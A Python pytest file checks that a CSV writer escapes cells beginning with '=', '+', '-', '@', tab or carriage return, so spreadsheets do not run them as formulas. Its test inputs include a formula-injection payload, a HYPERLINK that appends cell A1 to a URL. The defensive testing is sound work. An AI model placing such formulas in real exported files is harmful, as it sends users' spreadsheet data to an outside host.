"""Published tables as csv."""

import csv

import pandas as pd
import pytest

from atlas.results.tables import write_csv


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://a.b/?"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_text_is_a_formula_to_a_spreadsheet(tmp_path, text):
    frame = pd.DataFrame(
        {"id": [text, "a=b", None], "n": [-1, 2, 3], "x": [-0.5, None, 1.0], "flag": [True, False, True]}
    )
    write_csv(tmp_path / "t.csv", frame)
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[1] == [f"'{text}", "-1", "-0.5", "True"]
    assert rows[2:] == [["a=b", "2", "", "False"], ["", "3", "1.0", "True"]]


def test_other_tables_are_written_as_they_are(tmp_path):
    frame = pd.DataFrame(
        {"id": ["a", None], "kind": pd.Categorical(["x", "y"]), "n": pd.array([1, None], dtype="Int64")}
    )
    write_csv(tmp_path / "t.csv", frame)
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == frame.to_csv(index=False, lineterminator="\n")
